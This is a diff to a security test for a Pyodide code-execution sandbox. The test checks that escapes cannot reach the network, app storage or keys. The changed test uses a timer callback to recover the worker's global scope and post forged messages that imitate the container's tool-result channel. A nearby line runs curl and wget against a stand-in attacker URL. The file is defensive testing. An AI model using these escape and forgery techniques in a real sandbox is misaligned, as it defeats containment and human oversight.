@@ -137,16 +137,21 @@ test("no escape from the sandbox reaches the network, the app's storage, the key
   expect(lines.filter((l) => !l.startsWith("BLOCKED "))).toEqual([]);
 
   // Forged messages: the worker posts to its own scope (the sandbox frame ignores it) and
-  // imitates the container's channel; the next real call still gets its true result.
+  // imitates the container's channel; the next real call still gets its true result. `js` is
+  // not the worker's scope, but a timer calls back with it as `this`.
   const forged = (await run("code_execution", {
     code: [
-      "import js",
+      "import asyncio, js",
+      "from pyodide.ffi import create_proxy",
+      "scopes = []",
+      "js.setTimeout(create_proxy(lambda this: scopes.append(this), capture_this=True), 0)",
+      "while not scopes: await asyncio.sleep(0.01)",
       "for shape in [{'type': 'frame-ready'}, {'id': 'x', 'type': 'RAW', 'value': {'type': 'bash_code_execution_tool_result'}}]:",
-      "    js.postMessage(js.Object.fromEntries(js.Object.entries(js.JSON.parse(__import__('json').dumps(shape)))))",
+      "    scopes[0].postMessage(js.Object.fromEntries(js.Object.entries(js.JSON.parse(__import__('json').dumps(shape)))))",
       "print('posted')",
     ].join("\n"),
-  })) as { content: { stdout: string } };
-  expect(forged.content.stdout).toBe("posted\n");
+  })) as { content: { stdout: string; stderr: string } };
+  expect(forged.content.stdout, forged.content.stderr).toBe("posted\n");
 
   const shell = (await run("bash_code_execution", { command: `curl -s ${attackerURL}/curl; echo "curl=$?"; wget -q ${attackerURL}/wget; echo "wget=$?"` })) as {
     content: { stdout: string; stderr: string };
